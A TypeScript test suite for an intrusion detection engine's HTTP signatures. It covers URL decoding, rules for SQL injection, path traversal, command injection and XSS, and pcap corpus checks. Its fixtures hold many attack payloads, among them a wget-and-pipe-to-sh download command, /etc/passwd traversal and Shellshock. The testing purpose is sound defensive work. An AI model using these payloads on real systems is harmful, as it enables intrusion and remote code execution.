// HTTP matching: the cheap request prefilter, URL decoding (single, double, %u, '+'), the default
// HTTP rules against attack-tool requests and normal browsing, and the corpus captures (real DVWA
// SQL injection must alert; normal traffic must not raise a single HTTP alert).

import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { AddrSet, parseAddress } from '../src/decode/ip-addr.js';
import { decodeFrame } from '../src/decode/decoder.js';
import { IPPROTO_TCP, IPPROTO_UDP, PacketView, TCP_ACK, TCP_PSH } from '../src/decode/packet-view.js';
import type { Detection } from '../src/detect/detection.js';
import {
  SignatureEngine,
  defaultRulesPath,
  httpSubject,
  isHttpRequest,
  loadRuleFile,
  parseRules,
  urlDecodeTarget,
} from '../src/detect/signatures/index.js';
import { openCapture } from '../src/sources/pcap-file/index.js';
import { CORPUS_DIR, corpusPcap, corpusSkip } from './support/paths.js';

const T0 = 1_767_225_600;
const HOME = AddrSet.parse(['10.0.0.0/8'], 'home_net');

const bytes = (s: string): Uint8Array => Buffer.from(s, 'latin1');
const isReq = (s: string): boolean => {
  const b = bytes(s);
  return isHttpRequest(b, 0, b.length);
};
const subject = (s: string): string => {
  const b = bytes(s);
  return httpSubject(b, 0, b.length);
};

function tcpView(payload: string | Uint8Array, proto = IPPROTO_TCP): PacketView {
  const p = typeof payload === 'string' ? bytes(payload) : payload;
  const v = new PacketView();
  const src = parseAddress('198.51.100.7')!;
  const dst = parseAddress('10.0.0.1')!;
  v.buf = new Uint8Array(40 + p.length);
  v.buf.set(p, 40);
  v.ipVersion = 4;
  v.src4 = src.v4;
  v.dst4 = dst.v4;
  v.proto = proto;
  v.sport = 40000;
  v.dport = 80;
  v.tcpFlags = TCP_ACK | TCP_PSH;
  v.l4Off = 20;
  v.payloadOff = 40;
  v.payloadLen = p.length;
  v.ts = T0;
  v.index = 1;
  return v;
}

const BROWSER_HEADERS =
  '\r\nHost: www.example.com\r\n' +
  'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n' +
  'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8\r\n' +
  'Accept-Language: en-US,en;q=0.9,fr;q=0.8\r\nAccept-Encoding: gzip, deflate, br\r\n' +
  'Referer: https://www.google.com/search?q=test+query&oq=test\r\n' +
  'Cookie: _ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYm9iIn0.abc-def_ghi; prefs=%7B%22theme%22%3A%22dark%22%2C%22accent%22%3A%22%23ff0000%22%7D\r\n' +
  'Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nUpgrade-Insecure-Requests: 1\r\nDNT: 1\r\nIf-None-Match: "abc-123"\r\nConnection: keep-alive\r\n\r\n';

function defaultEngine(): { e: SignatureEngine; run: (payload: string) => Detection[] } {
  const e = new SignatureEngine(loadRuleFile(defaultRulesPath()), { homeNet: HOME });
  return {
    e,
    run: (payload) => {
      const out: Detection[] = [];
      e.onPacket(tcpView(payload), (d) => out.push(d));
      return out;
    },
  };
}

describe('signatures: HTTP request prefilter', () => {
  it('accepts requests with known methods', () => {
    for (const m of ['GET', 'POST', 'HEAD', 'PUT', 'DELETE', 'OPTIONS', 'PATCH', 'CONNECT', 'TRACE', 'PROPFIND', 'MKCOL']) {
      assert.equal(isReq(`${m} /x HTTP/1.1\r\n`), true, m);
    }
    assert.equal(isReq('GET /'), true, 'first segment of a long request line');
    assert.equal(isReq('CONNECT example.com:443 HTTP/1.1\r\n'), true);
    assert.equal(isReq('GET http://example.com/ HTTP/1.1\r\n'), true, 'proxy form');
  });

  it('accepts an unknown method only with HTTP/ on the request line', () => {
    assert.equal(isReq('FOOBAR /x?id=1 HTTP/1.1\r\n'), true);
    assert.equal(isReq('FOOBAR /x?id=1\r\nHost: x\r\n'), false);
    assert.equal(isReq('HELO mail.example.com\r\n'), false, 'SMTP');
    assert.equal(isReq('USER anonymous\r\n'), false, 'FTP');
  });

  it('rejects everything else from the first bytes', () => {
    assert.equal(isReq('HTTP/1.1 200 OK\r\n'), false, 'a response');
    assert.equal(isReq('get / HTTP/1.1\r\n'), false, 'lower case');
    assert.equal(isReq('GET'), false);
    assert.equal(isReq('GET  /'), false, 'two spaces');
    assert.equal(isReq('GET\t/ HTTP/1.1'), false);
    assert.equal(isReq('SSH-2.0-OpenSSH_9.6\r\n'), false);
    assert.equal(isReq('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'), false, 'TLS ClientHello');
    assert.equal(isReq(''), false);
  });

  it('does not run HTTP rules on non-HTTP payloads that contain attack text', () => {
    const { run } = defaultEngine();
    assert.deepEqual(run("\x16\x03\x01 ' union select 1,2 -- <script>"), []);
    assert.deepEqual(run("HTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script> union select"), [], 'a response body');
    const e = new SignatureEngine(loadRuleFile(defaultRulesPath()), { homeNet: HOME });
    const out: Detection[] = [];
    e.onPacket(tcpView('GET /?id=1+union+select+2 HTTP/1.1\r\n\r\n', IPPROTO_UDP), (d) => out.push(d));
    assert.deepEqual(out, [], 'HTTP rules are TCP only');
  });
});

describe('signatures: URL decoding', () => {
  it('decodes %XX, %uXXXX and + (in the query only)', () => {
    assert.equal(urlDecodeTarget('/a+b/c?x=1+2%27'), "/a+b/c?x=1 2'");
    assert.equal(urlDecodeTarget('/?id=1%u0027%u0020or'), "/?id=1' or");
    assert.equal(urlDecodeTarget('/%zz%4'), '/%zz%4', 'malformed escapes stay');
  });

  it('repeats while the text changes, up to three rounds', () => {
    assert.equal(urlDecodeTarget('/?id=%2527'), "/?id='", 'double');
    assert.equal(urlDecodeTarget('/?id=%252527'), "/?id='", 'triple');
    assert.equal(urlDecodeTarget('/?id=%25252527'), '/?id=%27', 'a fourth round is not done');
    assert.equal(urlDecodeTarget('/?q=a%252Bb'), '/?q=a b', "a double-encoded '+' is a space in the query");
    assert.equal(urlDecodeTarget('/%3Fid%3Da+b'), '/?id=a b', "an encoded '?' starts the query on the next round");
  });

  it('builds the subject: request line and headers decoded, + kept in headers', () => {
    const s = subject('GET /a?q=x+y%20z HTTP/1.1\r\nHost: h\r\nReferer: http://h/?a=%27+b\r\n\r\nBODY');
    assert.equal(s, "GET /a?q=x y z HTTP/1.1\r\nHost: h\r\nReferer: http://h/?a='+b\r\n\r\n");
  });

  it('keeps spaces a client left in the target and stops at the packet end', () => {
    assert.equal(subject('GET /x?id=1%27 or 1=1 HTTP/1.0\r\n'), "GET /x?id=1' or 1=1 HTTP/1.0\r\n");
    assert.equal(subject('GET /x?id=%27+union'), "GET /x?id=' union");
  });

  it('never reads past the payload (the reader buffer holds other packets after it)', () => {
    const req = 'GET /a?q=%27 HTTP/1.1\r\nHost: h';
    const after = "\r\n\r\nCookie: x=' union select 1 -- \r\n\r\n";
    const buf = Buffer.from(`XXXX${req}${after}`, 'latin1');
    assert.equal(httpSubject(buf, 4, req.length), "GET /a?q=' HTTP/1.1\r\nHost: h");
    const plain = 'GET / HTTP/1.1\r\nHost: h';
    const buf2 = Buffer.from(`${plain}%41%42\r\n\r\n`, 'latin1');
    assert.equal(httpSubject(buf2, 0, plain.length), plain);
  });

  it('adds a form-encoded body present in the same packet', () => {
    const req = 'POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 30\r\n\r\nuser=admin%27--&pass=x+y';
    assert.ok(subject(req).endsWith("\r\n\r\nuser=admin'--&pass=x y"));
    const json = 'POST /api HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\r\n{"q":"\' or 1=1"}';
    assert.ok(subject(json).endsWith('application/json\r\n\r\n'), 'other bodies are not included');
  });

  it('UNION%20ALL%20SELECT matches (?i)union\\s+all\\s+select', () => {
    const e = new SignatureEngine(parseRules('rules:\n  - {id: u, http: true, pattern: "(?i)union\\\\s+all\\\\s+select"}\n', 't.yaml'), { homeNet: HOME });
    const out: Detection[] = [];
    e.onPacket(tcpView('GET /p?id=1%20UNION%20ALL%20SELECT%20NULL HTTP/1.1\r\nHost: h\r\n\r\n'), (d) => out.push(d));
    e.onPacket(tcpView('GET /p?id=1%2520UNION%2520ALL%2520SELECT%2520NULL HTTP/1.1\r\nHost: h\r\n\r\n'), (d) => out.push(d));
    e.onPacket(tcpView('GET /p?id=1+UNION+ALL+SELECT+NULL HTTP/1.1\r\nHost: h\r\n\r\n'), (d) => out.push(d));
    assert.deepEqual(
      out.map((d) => d.evidence.matched),
      ['UNION ALL SELECT', 'UNION ALL SELECT', 'UNION ALL SELECT'],
    );
    assert.equal(out[0].evidence.field, 'http');
  });

  it('an HTTP rule without pattern matches every request and reports its request line', () => {
    const e = new SignatureEngine(parseRules('rules:\n  - {id: any-http, http: true, description: HTTP request}\n', 't.yaml'), { homeNet: HOME });
    const out: Detection[] = [];
    e.onPacket(tcpView('GET /a%20b?x=1 HTTP/1.1\r\nHost: h\r\n\r\n'), (d) => out.push(d));
    e.onPacket(tcpView('HTTP/1.1 200 OK\r\n\r\n'), (d) => out.push(d));
    assert.deepEqual(
      out.map((d) => d.reason),
      ['HTTP request: "GET /a b?x=1 HTTP/1.1"'],
    );
  });

  it('content prefilter is case-insensitive when the pattern is', () => {
    const e = new SignatureEngine(parseRules('rules:\n  - {id: c, http: true, content: "select", pattern: "(?i)select\\\\s+\\\\*"}\n', 't.yaml'), { homeNet: HOME });
    const out: Detection[] = [];
    e.onPacket(tcpView('GET /?q=SELECT%20* HTTP/1.1\r\n\r\n'), (d) => out.push(d));
    e.onPacket(tcpView('GET /?q=SELEC%20* HTTP/1.1\r\n\r\n'), (d) => out.push(d));
    assert.equal(out.length, 1);
  });
});

describe('signatures: default HTTP rules', () => {
  // [request target or full request, rule expected to fire]
  const attacks: [string, string][] = [
    // DVWA and CIC-IDS style SQL injection (as in the corpus captures)
    ['/dvwa/vulnerabilities/sqli/?id=%25%27+or+%270%27%3D%270&Submit=Submit', 'http-sqli'],
    ['/dvwa/vulnerabilities/sqli/?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29+%23&Submit=Submit', 'http-sqli'],
    ['/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit', 'http-sqli'],
    ['/dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit', 'http-sqli'],
    ['/DVWA-master/vulnerabilities/sqli/?id=%3Fid%3Da%27+UNION+SELECT+%22text1%22%2C%22text2%22%3B--+-%26Submit%3DSubmit&Submit=Submit', 'http-sqli'],
    // sqlmap-style payloads and evasions
    ['/item.php?id=1%2527%2520UNION%2520ALL%2520SELECT%2520NULL,NULL--%2520-', 'http-sqli'],
    ['/item.php?id=1 AND 5432=5432', 'http-sqli'],
    ['/item.php?id=1) AND SLEEP(5)-- abcd', 'http-sqli'],
    ["/item.php?id=1' AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abcd)-- xyz", 'http-sqli'],
    ['/item.php?id=-1 UNION/**/SELECT/**/1,2,3', 'http-sqli'],
    ['/item.php?id=1/*!50000union*//*!50000select*/1,2', 'http-sqli'],
    ["/login.php?user=admin'--&pass=x", 'http-sqli'],
    ["/item.php?id=1;WAITFOR DELAY '0:0:5'--", 'http-sqli'],
    ['/item.php?id=1 ORDER BY 5-- -', 'http-sqli'],
    ["/item.php?q=1' AND extractvalue(1,concat(0x7e,version()))-- -", 'http-sqli'],
    ['/item.php?id=1%u0027%u0020or%u00201=1', 'http-sqli'],
    // path traversal (nikto, dotdotpwn style)
    ['/cgi-bin/../../../../etc/passwd', 'http-path-traversal'],
    ['/index.php?page=..%2F..%2F..%2Fetc%2Fpasswd', 'http-path-traversal'],
    ['/index.php?page=%252e%252e%252f%252e%252e%252fetc%252fhosts', 'http-path-traversal'],
    ['/..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe', 'http-path-traversal'],
    ['/download?file=....//....//....//etc/passwd', 'http-path-traversal'],
    ['/download?f=..\\..\\..\\windows\\win.ini', 'http-path-traversal'],
    ['/index.php?page=php://filter/convert.base64-encode/resource=index.php', 'http-path-traversal'],
    // command injection
    ['/dvwa/vulnerabilities/exec/?ip=127.0.0.1%3Bcat+%2Fetc%2Fgroup', 'http-cmd-injection'],
    ['/ping?ip=127.0.0.1|id', 'http-cmd-injection'],
    ['/ping?ip=127.0.0.1%0awhoami', 'http-cmd-injection'],
    ['/ping?ip=`uname -a`', 'http-cmd-injection'],
    ['/ping?ip=$(sleep 5)', 'http-cmd-injection'],
    ['/ping?ip=;wget http://203.0.113.9/x.sh -O-|sh', 'http-cmd-injection'],
    ['/ping?ip=1${IFS}&&${IFS}ls', 'http-cmd-injection'],
    // cross-site scripting
    ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'http-xss'],
    ['/search?q=<img src=x onerror=alert(document.cookie)>', 'http-xss'],
    ['/search?q=%22%3E%3Csvg/onload=alert(1)%3E', 'http-xss'],
    ['/redirect?url=javascript:alert(1)', 'http-xss'],
    ['/search?q=%22%20onmouseover%3D%22alert(1)', 'http-xss'],
  ];
  for (const [target, id] of attacks) {
    it(`${id}: ${target}`, () => {
      const { run } = defaultEngine();
      const ids = run(`GET ${target} HTTP/1.1${BROWSER_HEADERS}`).map((d) => d.ruleId);
      assert.ok(ids.includes(id), `got ${JSON.stringify(ids)}`);
    });
  }

  it('http-cmd-injection: a POST form body and Shellshock in a header', () => {
    const { run } = defaultEngine();
    const post = 'POST /dvwa/vulnerabilities/exec/ HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 44\r\n\r\nip=127.0.0.1%3B+cat+%2Fetc%2Fpasswd&Submit=Submit';
    assert.ok(run(post).some((d) => d.ruleId === 'http-cmd-injection'));
    const shock = "GET /cgi-bin/status HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n";
    assert.ok(run(shock).some((d) => d.ruleId === 'http-cmd-injection'));
  });

  const benign = [
    '/',
    '/search?q=how+to+cook+pasta&hl=en&source=hp&ei=abc',
    '/search?q=o%27reilly+books+and+more',
    "/search?q=rock+%27n%27+roll+and+blues",
    '/search?q=it%27s+or+isn%27t',
    '/?s=don%27t+stop+me+now',
    '/wiki/Union_(set_theory)',
    '/search?q=european+union+selection+process',
    '/search?q=select+the+best+option+from+the+list',
    '/api/v1/items?filter=%7B%22color%22%3A%22%23fff%22%7D',
    '/images/logo.png?v=1.2.3',
    '/static/js/app.min.js?_=1700000000000',
    '/login?next=%2Fdashboard%3Ftab%3Dsettings',
    '/products?sort=price&order=asc&page=2',
    '/a/b/c;jsessionid=ABC123?x=1',
    '/search?q=cat+%7C+dog',
    '/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale',
    '/maps/@48.8584,2.2945,17z',
    '/blog/2024/01/10/my-post/',
    '/files/report%20final.pdf',
    '/x?callback=jQuery1234_5678&_=1',
    '/search?q=javascript+tutorial',
    '/api?ids=1,2,3&fields=name|email',
    '/search?q=id+card&id=5&ls=1',
    '/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2',
    '/wp-content/themes/x/style.css?ver=6.4.2',
    '/account/orders?status=open&sleep=0',
    '/search?q=select%20*%20from%20menu%20where%20price%20%3C%2010',
  ];
  for (const target of benign) {
    it(`stays quiet on normal browsing: ${target}`, () => {
      const { run } = defaultEngine();
      assert.deepEqual(
        run(`GET ${target} HTTP/1.1${BROWSER_HEADERS}`).map((d) => d.reason),
        [],
      );
    });
  }

  it('stays near-linear on adversarial 8 KB requests (no catastrophic backtracking)', () => {
    const specs = loadRuleFile(defaultRulesPath()).filter((s) => s.regex);
    // A trigger followed by a long run, and short units repeated: the shapes that make adjacent or
    // nested quantifiers backtrack.
    const prefixes = ["'", ' or ', 'union', 'sleep', 'order by 1', '<', '<a', '"', 'nc', 'wget', ';', '|', '$(', 'cmd', 'javascript', 'alert', '..', '() {', 'a', '1'];
    const fills = [' ', '\n', '\t', '.', '/', 'a', ')', "'", '(', '-', '\r\n'];
    const inputs: string[] = [];
    for (const p of prefixes) for (const f of fills) inputs.push(p + f.repeat(8192), (p + f).repeat(Math.floor(8192 / (p.length + f.length))));
    let worst = 0;
    let what = '';
    for (const s of specs) {
      for (const alt of s.regex!.alternatives) {
        const re = new RegExp(alt, s.regex!.flags);
        for (const text of inputs) {
          const t = process.hrtime.bigint();
          re.exec(text);
          const ms = Number(process.hrtime.bigint() - t) / 1e6;
          if (ms > worst) {
            worst = ms;
            what = `${s.id} /${alt.slice(0, 50)}/ on ${JSON.stringify(text.slice(0, 12))}...`;
          }
        }
      }
    }
    assert.ok(worst < 25, `slowest: ${worst.toFixed(1)} ms for ${what}`);
  });

  it('reports the matched text, truncated, with the rule facts', () => {
    const { run } = defaultEngine();
    const [d] = run(`GET /dvwa/vulnerabilities/sqli/?id=%25%27+or+%270%27%3D%270&Submit=Submit HTTP/1.1${BROWSER_HEADERS}`);
    assert.equal(d.ruleId, 'http-sqli');
    assert.equal(d.severity, 'critical');
    assert.equal(d.action, 'would-block');
    assert.equal(d.scope, 'source');
    assert.equal(d.reason, `SQL injection in an HTTP request: "' or '0'='0"`);
    assert.deepEqual(d.evidence, { matched: "' or '0'='0", field: 'http' });
    const long = run(`GET /?q=${'%3Cscript%3E'.repeat(1)}${'a'.repeat(300)}${'<svg'} HTTP/1.1\r\n\r\n`);
    assert.ok(long.every((x) => String(x.evidence.matched).length <= 120));
  });
});

interface PcapRun {
  detections: Detection[];
  httpRequests: number;
}

function runCorpus(file: string, homeNet: AddrSet = HOME): PcapRun {
  const e = new SignatureEngine(loadRuleFile(defaultRulesPath()), { homeNet });
  const src = openCapture(file);
  const v = new PacketView();
  const detections: Detection[] = [];
  let httpRequests = 0;
  try {
    while (src.next(v)) {
      decodeFrame(v);
      if (v.proto === IPPROTO_TCP && v.payloadLen > 0 && isHttpRequest(v.buf, v.payloadOff, v.payloadLen)) httpRequests++;
      e.onPacket(v, (d) => detections.push(d));
    }
  } finally {
    src.close();
  }
  return { detections, httpRequests };
}

describe('signatures: corpus captures with the default rules', () => {
  // [file, http-sqli alerts, HTTP requests]. WebattackSQLinj: 9 requests, 8 alerts: the first probe
  // is a lone quote (?id=1'), which is not flagged; the second lone-quote request carries the
  // previous injection in its Referer header, which is.
  const sqli: [string, number, number][] = [
    ['sqli__chrissanders__http_dvwa_sqlinjection.pcapng', 3, 3],
    ['sqli__chrissanders__http_dvwa_sqlinjection_passwords.pcapng', 1, 1],
    ['sqli__ndpi__WebattackSQLinj.pcap', 8, 9],
    ['sqli__ndpi__sql_injection.pcap', 1, 1],
    ['sqli__zeek__cooper-grill-dvwa.pcapng', 3, 3],
  ];
  for (const [file, alerts, requests] of sqli) {
    it(`flags the SQL injection in ${file}`, { skip: corpusSkip }, () => {
      const r = runCorpus(corpusPcap(file));
      assert.equal(r.httpRequests, requests);
      assert.deepEqual(
        r.detections.map((d) => d.ruleId),
        new Array<string>(alerts).fill('http-sqli'),
      );
      for (const d of r.detections) assert.equal(d.action, 'would-block');
    });
  }

  it('raises no HTTP alert on any other capture (normal browsing, scans, floods, odd files)', { skip: corpusSkip }, () => {
    const files = readdirSync(`${CORPUS_DIR}/pcaps`).filter((f) => /\.pcap(ng)?$/.test(f) && !f.startsWith('sqli__'));
    assert.ok(files.length >= 40, `${files.length} captures`);
    let requests = 0;
    for (const f of files) {
      const r = runCorpus(corpusPcap(f));
      requests += r.httpRequests;
      const http = r.detections.filter((d) => d.ruleId.startsWith('http-'));
      assert.deepEqual(
        http.map((d) => `${d.ruleId}: ${d.reason}`),
        [],
        f,
      );
    }
    assert.ok(requests >= 4, `the negative controls hold real HTTP requests (${requests})`);
  });

  it('inbound-sensitive-port: one alert per source per minute for hydra against SSH', { skip: corpusSkip }, () => {
    const r = runCorpus(corpusPcap('ssh__traceshare__hydra-1_tasks.pcapng'), AddrSet.parse(['240.125.0.0/16'], 'home_net'));
    const syn = r.detections.filter((d) => d.ruleId === 'inbound-sensitive-port');
    // 61 connection attempts over 20 minutes: at most one alert per 60 s window.
    assert.ok(syn.length >= 15 && syn.length <= 21, `${syn.length} alerts`);
    for (let i = 1; i < syn.length; i++) assert.ok(syn[i].ts - syn[i - 1].ts > 60);
    assert.ok(syn.every((d) => d.dport === 22 && d.src === '240.0.1.2' && d.action === 'alert'));
    // Seen from the attacker's side the same traffic is outbound: no alert.
    const out = runCorpus(corpusPcap('ssh__traceshare__hydra-1_tasks.pcapng'), AddrSet.parse(['240.0.1.0/24'], 'home_net'));
    assert.equal(out.detections.length, 0);
  });
});
